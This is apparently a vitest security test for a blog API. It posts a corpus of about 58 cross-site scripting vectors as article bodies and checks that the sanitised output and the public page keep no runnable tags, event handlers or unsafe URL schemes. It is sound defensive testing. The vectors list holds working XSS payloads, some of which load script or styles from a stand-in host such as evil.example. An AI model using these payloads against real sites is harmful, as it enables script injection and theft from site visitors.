import { expect, test } from 'vitest'
import { call } from '../../testing/api'
import { describeOnBothDatabases } from '../../testing/backends'

// Known cross-site scripting shapes, each sent as an article body through the editor's API, read back
// from the public API and page: nothing that can run script survives the server's sanitiser.

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script type="module">import("//evil.example")</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=x onerror="&#97;lert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="javascript:alert(1) 1x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/steal">x</a>',
  '<a href="https://example.com" onclick="alert(1)">x</a>',
  '<a href="https://example.com" onmouseover=alert(1)>x</a>',
  '<a href="https://example.com" style="position:fixed;inset:0">x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<h1 onmouseover="alert(1)">x</h1>',
  '<ol start="1" onclick="alert(1)"><li>x</li></ol>',
  '<p><strong onclick=alert(1)>x</strong></p>',
  '"><script>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a href="https://example.com" target="_top">x</a>',
  '<img src="https://example.com/x.png" alt="" onload="alert(1)">',
]

const RUNNABLE_TAGS =
  /<\s*\/?\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|button|textarea|template|noscript|video|audio|source|details|marquee|body)\b/i

/** Every tag of sanitised HTML, with its attributes (sanitize-html writes them name="value"). */
function tagsOf(html: string) {
  return [...html.matchAll(/<([a-z0-9]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/gi)].map((match) => ({
    tag: match[1]!.toLowerCase(),
    attributes: [...match[2]!.matchAll(/([^\s=>]+)(?:="([^"]*)")?/g)].map((attribute) => ({
      name: attribute[1]!.toLowerCase(),
      value: (attribute[2] ?? '').replace(/&amp;/g, '&'),
    })),
  }))
}

function expectHarmless(html: string, vector: string) {
  expect(html, vector).not.toMatch(RUNNABLE_TAGS)
  for (const { tag, attributes } of tagsOf(html)) {
    for (const { name, value } of attributes) {
      expect(name, `${vector}: <${tag} ${name}>`).not.toMatch(/^on|^style$|^srcset$|^srcdoc$|^formaction$/)
      // A relative address cannot run anything; an address with a scheme must use an allowed one.
      // Browsers drop tabs, newlines and control characters inside a scheme, so the check does too.
      const scheme = value
        .replace(/[\u0000-\u0020]/g, '')
        .match(/^([a-z][a-z0-9+.-]*):/i)?.[1]
        ?.toLowerCase()
      if (name === 'href' && scheme) expect(['http', 'https', 'mailto', 'tel'], vector).toContain(scheme)
      if (name === 'src' && scheme) {
        expect(['http', 'https', 'data'], vector).toContain(scheme)
        if (scheme === 'data')
          expect(value, vector).toMatch(/^data:image\/(png|jpe?g|gif|webp|avif);base64,/i)
      }
      if (name === 'href' || name === 'src') expect(value, vector).not.toMatch(/^\s*\/\//)
      if (name === 'target') expect(value, vector).toBe('_blank')
    }
  }
}

describeOnBothDatabases('XSS corpus', (backend) => {
  test(`${vectors.length} known vectors leave nothing runnable in a stored article`, async () => {
    expect(vectors.length).toBeGreaterThanOrEqual(50)
    const { url, token } = backend()
    for (const [index, vector] of vectors.entries()) {
      const title = `XSS vector ${index + 1}`
      const created = await call(url, '/api/bookings/blog', {
        token,
        json: { title, content: `<p>Before</p>${vector}<p>After</p>` },
      })
      expect(created.status, vector).toBe(201)
      const stored = await call<{ blog_content: string }>(
        url,
        `/api/bookings/blog/${encodeURIComponent(title)}`,
      )
      expectHarmless(stored.body.blog_content, vector)
      expect(stored.body.blog_content, vector).toContain('<p>Before</p>')
      // The public page shows the same harmless body.
      const page = await (await fetch(`${url}/article/${encodeURIComponent(title)}`)).text()
      const body = page.slice(page.indexOf('<p>Before</p>'), page.indexOf('<p>After</p>') + 12)
      expectHarmless(body, vector)
    }
  })
})
